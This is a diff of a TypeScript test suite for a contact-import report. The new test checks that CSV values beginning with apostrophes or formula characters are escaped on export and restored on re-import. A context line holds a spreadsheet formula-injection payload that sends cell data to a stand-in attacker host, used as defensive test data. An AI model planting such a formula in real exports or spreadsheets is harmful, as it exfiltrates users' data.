@@ -90,5 +90,38 @@ layer(stores, { timeout: 60_000 })("a job's report on PGlite", (it) => {
         assert.strictEqual(doe.firstName, '=HYPERLINK("http://attacker.example/?x="&A1,"open")')
       })
     )
+
+    it.effect("gives back values that start with an apostrophe when imported again", () =>
+      Effect.gen(function* () {
+        const original =
+          "External ID,First Name,Last Name,Work Email\n" +
+          "A-1,'Ohana,'=1+1,bad\n" +
+          "A-2,'+44 note,=1+1,bad2\n"
+        const { text } = yield* reportOf(original, true)
+        const rows = parse(text) as Array<Array<string>>
+        assert.deepStrictEqual(
+          rows.slice(1).map((row) => row.slice(0, 3)),
+          [
+            ["A-1", "''Ohana", "''=1+1"],
+            ["A-2", "''+44 note", "'=1+1"]
+          ]
+        )
+
+        const corrected = text
+          .replace(",bad,", ",a1@example.com,")
+          .replace(",bad2,", ",a2@example.com,")
+        const again = yield* importFile({ file: file(corrected), settings, dryRun: false })
+        assert.strictEqual(again.counters.contacts.created, 2)
+        const contacts = yield* ContactStore.use((store) =>
+          store.list({ division: "fx", limit: 100 })
+        )
+        const names = (email: string) => {
+          const contact = contacts.find((c) => c.workEmail === email)
+          return [contact?.firstName, contact?.lastName]
+        }
+        assert.deepStrictEqual(names("a1@example.com"), ["'Ohana", "'=1+1"])
+        assert.deepStrictEqual(names("a2@example.com"), ["'+44 note", "=1+1"])
+      })
+    )
   })
 })
